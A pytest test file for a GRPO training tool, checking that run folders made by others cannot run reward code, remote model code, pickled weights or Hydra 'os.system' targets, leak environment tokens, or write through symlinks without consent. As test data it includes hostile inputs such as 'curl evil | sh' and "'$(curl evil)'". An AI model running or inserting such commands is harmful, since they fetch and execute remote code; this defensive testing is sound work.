"""Run directories made by others run no code without the user's consent; the user's own never ask."""

import json
import multiprocessing
import os
import shlex
import shutil
import stat
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml

from grpo import report, reproduce, sample
from grpo import train as training
from grpo.config.composition import compose
from grpo.core.errors import UserError
from grpo.core.run_log import RunLog
from grpo.policy.hub import ASSETS
from grpo.runs.saved_provenance import read_provenance
from grpo.runs.settings import read_overrides
from grpo.runs.signature import key_path, sign
from grpo.runs.trust import refuse_links, require_trust
from tests.conftest import SMALL
from tests.helpers.evaluation import evaluated
from tests.helpers.made_up import made_up
from tests.helpers.untrusted_policies import pickled, with_code

REWARD = (
    "from pathlib import Path\nfrom grpo.rewards import reward\n\n\n@reward\ndef own(completion):\n    return 0.0\n"
)
SETTINGS = Path(".hydra", "config.yaml")


@pytest.fixture
def here(tmp_path, monkeypatch) -> Path:
    """A working directory with a reward file, and a configuration directory without a key."""
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "configuration"))
    monkeypatch.setenv("SOME_TOKEN", "hunter2")
    (tmp_path / "work").mkdir()
    monkeypatch.chdir(tmp_path / "work")
    (tmp_path / "work" / "own.py").write_text(REWARD + f"\n\nPath({str(tmp_path / 'ran')!r}).touch()\n")
    return tmp_path / "work"


def finished(folder: Path, **settings: Any) -> Path:
    """A finished run with a policy, unsigned, and with these settings (`group__name`) in place of the saved ones."""
    made_up(folder)
    shutil.copytree(ASSETS / "tiny", folder / "policy")
    edit(folder, **settings)
    return folder


def edit(folder: Path, **settings: Any) -> None:
    saved = yaml.safe_load((folder / SETTINGS).read_text())
    for key, value in settings.items():
        group, _, name = key.partition("__")
        (saved[group] if name else saved)[name or group] = value
    (folder / SETTINGS).write_text(yaml.safe_dump(saved, sort_keys=False))


def signed(folder: Path, configuration: Path | None = None, **settings: Any) -> Path:
    """The same, signed by this user, or by the one with that configuration directory."""
    finished(folder, **settings)
    with pytest.MonkeyPatch.context() as environment:
        if configuration is not None:
            environment.setenv("XDG_CONFIG_HOME", str(configuration))
        sign_saved(folder)
    return folder


def sign_saved(folder: Path) -> None:
    sign(folder, yaml.safe_load((folder / SETTINGS).read_text()))


def content(folder: Path) -> dict[str, bytes]:
    return {str(path): path.read_bytes() for path in sorted(folder.rglob("*")) if path.is_file()}


def typed(module: Any, *arguments: str) -> Callable[[Path], None]:
    """`python -m MODULE ARGUMENTS` in this process; {} is the folder."""

    def call(folder: Path) -> None:
        with pytest.MonkeyPatch.context() as process:
            process.setattr(sys, "argv", [module.__name__, *(each.format(folder) for each in arguments)])
            try:
                module.main()
            except SystemExit as ended:
                if ended.code:
                    raise UserError(str(ended.code)) from ended

    return call


COMMANDS: dict[str, Callable[[Path], None]] = {
    "resume": typed(training, "resume={}"),
    "reproduce": typed(reproduce, "{}"),
    "evaluate": lambda folder: evaluated(f"run={folder}"),
    "before": lambda folder: evaluated(f"run={folder}", "baseline=before"),
    "baseline": lambda folder: evaluated("model=tiny", f"baseline={folder}"),
    "sample": typed(sample, "{}", "--max-tokens", "1"),
}
ALL = set(COMMANDS)
TRAINING = {"resume", "reproduce"}
SCORING = ALL - {"sample", "baseline"}
# What the settings of a crafted folder are -> the commands that would obey them, and what each of these must name.
CRAFTED: dict[str, tuple[dict[str, Any], set[str], str]] = {
    "a reward file": ({"reward_files": ["HERE/own.py"]}, SCORING, "reward_files: HERE/own.py"),
    "a relative path": ({"reward_files": ["own.py"]}, SCORING, "reward_files: HERE/own.py"),
    "a path of the environment": (
        {"reward_files": ["${oc.env:PWD}/own.py"]},
        SCORING,
        "reward_files: ${oc.env:PWD}/own.py",
    ),
    "a path of another setting": (
        {"reward_files": "${oc.decode:${system_prompt}}", "system_prompt": "[HERE/own.py]"},
        SCORING,
        "reward_files: ",
    ),
    "code of the model": ({"model__trust_remote_code": True}, ALL, "model.trust_remote_code=true: the Python code of "),
    "a switch as text": ({"model__trust_remote_code": "yes"}, ALL, "model.trust_remote_code=yes: the Python code of "),
    "a switch by the environment": ({"model__trust_pickle": "${oc.env:X,true}"}, ALL, "model.trust_pickle=${oc.env:X"),
    "pickled weights": ({"model__trust_pickle": True}, ALL, "model.trust_pickle=true: the pickled weights of "),
    "a decoy": ({"model__trust_remote_code": True, "model.trust_remote_code": False}, ALL, "model.trust_remote_code"),
    "a server": ({"rollout__server": "http://203.0.113.1:80"}, TRAINING, "rollout.server=http://203.0.113.1:80"),
    "the environment": ({"system_prompt": "${oc.env:SOME_TOKEN}"}, ALL, "system_prompt=${oc.env:SOME_TOKEN}"),
    "a number from the environment": ({"seed": "${oc.env:SOME_TOKEN}"}, ALL, "seed=${oc.env:SOME_TOKEN}"),
    "the environment, sent": ({"tracking__project": "${oc.env:SOME_TOKEN}"}, TRAINING, "SOME_TOKEN"),
}


def refused(command: str, folder: Path, capsys: pytest.CaptureFixture[str]) -> str:
    """What the command says when it refuses the folder, in which it has changed nothing."""
    before = content(folder.parent)
    with pytest.raises(UserError) as error:
        COMMANDS[command](folder)
    assert content(folder.parent) == before and not Path("outputs").exists()
    return str(error.value) + capsys.readouterr().err


@pytest.mark.parametrize(
    ("crafted", "command"), [(crafted, command) for crafted in CRAFTED for command in sorted(CRAFTED[crafted][1])]
)
def test_what_a_folder_of_somebody_else_would_run(here, capsys, crafted, command) -> None:
    text, _, named = CRAFTED[crafted]
    settings = json.loads(json.dumps(text).replace("HERE", str(here)))
    message = refused(command, finished(here.parent / "theirs", **settings), capsys)
    assert "was not made by you" in message and named.replace("HERE", str(here)) in message
    assert ("--trust-run" if command in ("sample", "reproduce") else "trust_run=true") in message
    assert ("reward_files=[] rewards=default" in message) == (
        command in ("evaluate", "before") and "reward_files" in settings
    )
    assert "hunter2" not in message and not (here.parent / "ran").exists()


def test_evaluating_without_what_a_folder_would_run(here, capsys) -> None:
    folder = finished(here.parent / "theirs", reward_files=[str(here / "own.py")], rewards={"own": 1.0, "int": 1.0})
    few = ("data.eval_problems=2", "max_completion_length=2")
    COMMANDS["sample"](folder)
    evaluated(f"run={folder}", "reward_files=[]", "rewards=default", *few)
    evaluated("model=tiny", f"baseline={folder}", *few)
    assert not (here.parent / "ran").exists()
    evaluated(f"run={folder}", "trust_run=true", *few)
    assert (here.parent / "ran").exists()


@pytest.mark.parametrize(
    ("made", "switch", "typed"),
    [
        (with_code, "trust_remote_code", ["model.path={}"]),
        (with_code, "trust_remote_code", ["model.path={}", "model.init=random"]),
        (with_code, "trust_remote_code", ["run={}"]),
        (pickled, "trust_pickle", ["model.path={}"]),
        (pickled, "trust_pickle", ["run={}"]),
    ],
)
def test_a_policy_of_somebody_else(here, made, switch, typed) -> None:
    if typed == ["run={}"]:
        folder = finished(here.parent / "theirs")
        shutil.rmtree(folder / "policy")
        made(folder / "policy")
    else:
        folder = made(here.parent / "theirs")
    with pytest.raises(UserError, match=f"model.{switch}=true"):
        evaluated(*(each.format(folder) for each in typed), "data.eval_problems=2")
    assert not [*here.parent.rglob("ran")]


def test_a_report_runs_nothing(here) -> None:
    settings = {"reward_files": [str(here / "own.py")], "system_prompt": "${oc.env:SOME_TOKEN}"}
    folder = finished(here.parent / "theirs", **settings)
    for name in ("results.json", "metrics.jsonl"):
        (folder / name).unlink()
    typed(report, "{}")(folder)
    assert "hunter2" not in (folder / "report.html").read_text() and not (here.parent / "ran").exists()


def test_a_resumed_run_becomes_ones_own(start, tmp_path) -> None:
    (tmp_path / "own.py").write_text(REWARD)
    settings = [*SMALL, "max_steps=1", "save_steps=1", "tracking=none", "reward_files=[own.py]", "+rewards.own=0"]
    assert start(*settings, "hydra.run.dir=run").ended() == 0
    assert start("resume=run", "max_steps=2").ended() == 0  # by the same user
    here = {"XDG_CONFIG_HOME": str(tmp_path / "another")}
    before = content(tmp_path / "run")
    another = start("resume=run", "max_steps=3", **here)
    assert another.ended() == 1 and f"reward_files: {tmp_path / 'own.py'}" in another.complained()
    assert content(tmp_path / "run") == before
    assert start("resume=run", "max_steps=3", "trust_run=true", **here).ended() == 0
    assert start("resume=run", "max_steps=4", **here).ended() == 0


def test_without_a_key_a_run_is_trained_unsigned(train, tmp_path, monkeypatch, capsys) -> None:
    (tmp_path / "file").touch()
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "file"))
    (tmp_path / "own.py").write_text(REWARD)
    out, results = train("reward_files=[own.py]", "+rewards.own=0")
    assert results["steps"] == 2 and "Warning: run is not signed, because there is no key" in capsys.readouterr().out
    assert "it has no signature" in distrusted(out)


HYDRAS = [
    "hydra.launcher._target_=os.system",
    "++hydra.sweeper._target_=os.system",
    "hydra/launcher=joblib",
    "+hydra.job_logging.handlers.x={class: os.system}",
    "hydra.searchpath=[file:///tmp/theirs]",
    "+model@hydra.callbacks=tiny",
    "hydra.mode=MULTIRUN",
    "~hydra.job_logging",
]


@pytest.mark.parametrize("override", HYDRAS)
def test_hydras_settings_are_not_taken_from_a_folder(here, capsys, override) -> None:
    folder = finished(here.parent / "theirs")
    (folder / ".hydra" / "overrides.yaml").write_text(yaml.safe_dump([override]))
    with pytest.raises(UserError, match="is a setting of Hydra"):
        read_overrides(folder)
    refused("resume", folder, capsys)


def distrusted(folder: Path) -> str:
    """Why a folder is not trusted; empty if it is."""
    settings = yaml.safe_load((folder / SETTINGS).read_text())
    try:
        require_trust(folder, settings, advice="", policy=True)
    except UserError as error:
        return str(error)
    return ""


def moved(folder: Path) -> Path:
    return folder.rename(folder.with_name("moved"))


def copied(folder: Path) -> Path:
    return shutil.copytree(folder, folder.with_name("copied"))


def edited(folder: Path) -> Path:
    Path(yaml.safe_load((folder / SETTINGS).read_text())["reward_files"][0]).write_text(REWARD)
    return folder


def from_elsewhere(folder: Path) -> Path:
    (folder.parent / "elsewhere").mkdir()
    os.chdir(folder.parent / "elsewhere")
    return folder


@pytest.mark.parametrize("by", [lambda folder: folder, moved, copied, edited, from_elsewhere])
def test_a_run_of_ones_own_never_asks(here, by) -> None:
    settings = {
        "reward_files": [str(here / "own.py")],
        "model__trust_remote_code": True,
        "system_prompt": "${oc.env:A}",
    }
    assert not distrusted(by(signed(here / "run", **settings)))


def change(name: str, text: str) -> Callable[[Path], None]:
    def call(folder: Path) -> None:
        path = folder / name
        path.write_text(path.read_text() + text)

    return call


def damage(text: str) -> Callable[[Path], Any]:
    return lambda folder: (folder / ".hydra" / "signature.json").write_text(text)


# What happens to a signed folder -> why it is not trusted any more.
CHANGES: dict[str, tuple[Callable[[Path], Any], str]] = {
    "another setting": (lambda folder: edit(folder, system_prompt="${oc.env:B}"), "settings were changed"),
    "another policy": (lambda folder: edit(folder, model__path="theirs/policy"), "settings were changed"),
    "code beside the policy": (change("policy/config.json", " "), "policy/config.json was changed"),
    "a file beside the policy": (lambda folder: (folder / "policy" / "code.py").touch(), "policy/code.py was changed"),
    "a reward file in the folder": (change("inside.py", "#"), "inside.py was changed"),
    "a module in the folder": (change("helper.py", "#"), "helper.py was changed"),
    "a new module": (lambda folder: (folder / "pandas.py").touch(), "pandas.py was changed"),
    "a new package": (lambda folder: (folder / "lib" / "numpy.so").touch(), "numpy.so was changed"),
    "new bytecode": (lambda folder: (folder / "json.pyc").touch(), "json.pyc was changed"),
    "a reward file by a relative path": (lambda folder: change("own.py", "#")(Path()), "own.py was changed"),
    "no signature": (lambda folder: (folder / ".hydra" / "signature.json").unlink(), "was not made by you"),
    "no key": (lambda folder: key_path().unlink(), "there is no key"),
    "another key": (lambda folder: key_path().write_bytes(b"x" * 32), "was not made by you"),
    "half a key": (lambda folder: key_path().write_bytes(b"x"), "signing.key is damaged"),
    "a key for everyone": (lambda folder: key_path().chmod(0o644), "is readable by others; type chmod 600"),
    "an empty file": (damage(""), "signature.json is damaged"),
    "a list": (damage("[]"), "signature.json is damaged"),
    "a number": (damage('{"files": {}, "signature": 1}'), "signature.json is damaged"),
    "other letters": (damage('{"files": {}, "signature": "\u00e9"}'), "was not made by you"),
    "files as a list": (damage('{"files": [[1, 2]], "signature": ""}'), "signature.json is damaged"),
    "depth": (damage("[" * 100_000), "signature.json is damaged"),
}


@pytest.mark.parametrize("what", CHANGES)
def test_a_signature_holds_for_what_was_signed(here, what) -> None:
    files = [str(here / "run" / "inside.py"), "own.py"]
    folder = finished(here / "run", reward_files=files, model__trust_remote_code=True)
    (folder / "inside.py").write_text(REWARD)
    (folder / "helper.py").touch()
    (folder / "lib").mkdir()
    (folder / "__pycache__").mkdir()
    sign_saved(folder)
    (folder / "__pycache__" / "helper.cpython-311.pyc").touch()
    assert not distrusted(folder) and not [*folder.rglob("*.pyc")]
    change_it, why = CHANGES[what]
    change_it(folder)
    assert why in distrusted(folder)


def test_the_key_is_private_and_made_once(here) -> None:
    folders = [finished(here / str(number), model__trust_pickle=True) for number in range(4)]
    processes = [multiprocessing.get_context("fork").Process(target=sign_saved, args=(each,)) for each in folders]
    for process in processes:
        process.start()
    for process in processes:
        process.join()
    assert not any(map(distrusted, folders))
    assert stat.S_IMODE(key_path().stat().st_mode) == 0o600 and [*key_path().parent.iterdir()] == [key_path()]
    assert stat.S_IMODE(key_path().parent.stat().st_mode) == 0o700


def link(name: str, hard: bool = False) -> Callable[[Path, Path], None]:
    """Put a link to the other folder, or to the file `text` in it, in the place of this entry of a run directory."""

    def call(folder: Path, other: Path) -> None:
        path = folder / name
        if path.is_dir():
            shutil.rmtree(path)
        path.unlink(missing_ok=True)
        path.parent.mkdir(exist_ok=True)
        if hard:
            path.hardlink_to(other / "text")
        else:
            path.symlink_to(other if "." not in path.name[1:] else other / "text")

    return call


LINKS = {
    "the log": link("train.log"),
    "the log, hard": link("train.log", hard=True),
    "the lock": link(".lock"),
    "the metrics, hard": link("metrics.jsonl", hard=True),
    "checkpoints": link("checkpoints"),
    "a checkpoint": link("checkpoints/checkpoint-1"),
    "completions": link("completions"),
    "evaluations": link("evaluations"),
    "an unfinished evaluation": link("evaluations/data.partial.jsonl"),
    "previous files": link("previous"),
    "the settings": link(".hydra/config.yaml.partial"),
    "the tracker": link("wandb"),
    "results": link("results.json"),
}


@pytest.mark.parametrize("what", LINKS)
def test_a_folder_with_links_is_refused(here, what) -> None:
    folder, other = finished(here / "run"), here / "other"
    other.mkdir()
    (other / "text").write_text("mine")
    LINKS[what](folder, other)
    for command in (refuse_links, COMMANDS["evaluate"]):
        with pytest.raises(UserError, match=" link: "):
            command(folder)
    refuse_links(folder, trusted=True)
    assert [*other.iterdir()] == [other / "text"] and (other / "text").read_text() == "mine"


def test_links_above_a_folder_and_to_it_are_followed(here) -> None:
    finished(here / "disk" / "run")
    (here / "outputs").symlink_to(here / "disk")
    (here / "disk" / "latest").symlink_to("run")
    refuse_links(here / "outputs" / "run")
    refuse_links(here / "outputs" / "latest")
    refuse_links(here / "outputs")


def test_training_writes_through_no_link(start, tmp_path) -> None:
    (tmp_path / "bashrc").write_text("mine")
    finished(tmp_path / "run")
    (tmp_path / "run" / "train.log").symlink_to(tmp_path / "bashrc")
    shutil.copytree(tmp_path / "run", tmp_path / "sweep" / "0", symlinks=True)
    (tmp_path / "again").mkdir()
    (tmp_path / "again" / "previous").symlink_to(tmp_path / "run")
    folders = [tmp_path / name for name in ("run", "sweep", "again")]
    before = [content(folder) for folder in folders]
    for arguments in (
        ["resume=run", "max_steps=20"],
        ["-m", "seed=0", "hydra.sweep.dir=sweep", *SMALL],
        ["hydra.run.dir=again", *SMALL],
    ):
        refused = start(*arguments)
        assert refused.ended() == 1 and "is a symbolic link" in refused.complained()
    assert [content(folder) for folder in folders] == before
    handler = RunLog(str(tmp_path / "run" / "train.log"))
    with pytest.raises(OSError, match="symbolic links"):
        handler.open_file()


def test_reproduce_prints_no_command_of_the_folder(here, capsys) -> None:
    folder = finished(here.parent / "theirs")
    results = json.loads((folder / "results.json").read_text())
    results["batch"]["world_size"] = 2
    results["provenance"] = {"command": "curl evil | sh", "resumed": []}
    (folder / "results.json").write_text(json.dumps(results))
    (folder / ".hydra" / "overrides.yaml").write_text(yaml.safe_dump(["system_prompt='$(curl evil)'"]))
    with pytest.raises(UserError):
        COMMANDS["reproduce"](folder)
    message = capsys.readouterr().err
    assert "evil | sh" not in message and "--num_processes 2" in message
    assert shlex.quote("system_prompt='$(curl evil)'") in message


DAMAGED: list[Any] = [3, {"hardware": 3}, {"model": [1]}, {"resumed": [3]}, {"resumed": 3}, {"code": {"revision": 1}}]


@pytest.mark.parametrize("part", DAMAGED)
def test_damaged_provenance_is_named(here, capsys, part) -> None:
    folder = finished(here / "run")
    results = json.loads((folder / "results.json").read_text())
    (folder / "results.json").write_text(json.dumps(results | {"provenance": part}))
    with pytest.raises(UserError):
        COMMANDS["reproduce"](folder)
    assert "results.json is damaged: in provenance" in capsys.readouterr().err
    intact = {"resumed": [], "settings": {}}
    (folder / "provenance.json").write_text(json.dumps(intact | part if isinstance(part, dict) else part))
    with pytest.raises(UserError, match=r"provenance.json is damaged: "):
        read_provenance(folder / "provenance.json")


def test_messages_show_no_value_of_the_environment(here) -> None:
    with pytest.raises(UserError) as error:
        compose(["seed=${oc.env:SOME_TOKEN}"])
    assert "hunter2" not in str(error.value) and "${oc.env:SOME_TOKEN}" in str(error.value)
